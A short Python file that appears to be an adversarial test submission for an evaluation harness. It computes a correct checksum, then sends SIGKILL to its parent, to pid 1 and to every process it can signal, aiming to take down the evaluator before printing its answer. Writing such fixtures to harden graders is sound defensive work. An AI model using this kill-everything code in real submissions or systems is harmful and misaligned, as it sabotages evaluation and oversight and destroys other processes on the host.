"""Kills its parent, pid 1 and every process it can signal, hoping to take the evaluator down with it."""
import os, sys
from harness import read_numbers

def checksum(numbers):
    total = 0
    weighted = 0
    for i, x in enumerate(numbers):
        total += x
        weighted = (weighted * 31 + x * (i + 1)) % 1000000007
    return total, weighted


def honest():
    numbers = read_numbers()
    total, weighted = checksum(numbers)
    return "%d %d %d\n" % (len(numbers), total, weighted)

import signal
out = honest()
for pid in (os.getppid(), 1):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
try:
    os.kill(-1, signal.SIGKILL)
except OSError:
    pass
sys.stdout.write(out)
sys.exit(3)
